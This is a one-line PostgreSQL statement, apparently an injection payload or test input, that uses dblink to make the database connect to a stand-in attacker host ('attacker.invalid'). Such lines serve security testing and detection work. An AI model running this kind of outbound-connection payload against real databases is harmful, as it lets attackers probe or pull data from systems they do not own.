SELECT * FROM dblink('host=attacker.invalid dbname=x', 'SELECT 1') AS t(x int)
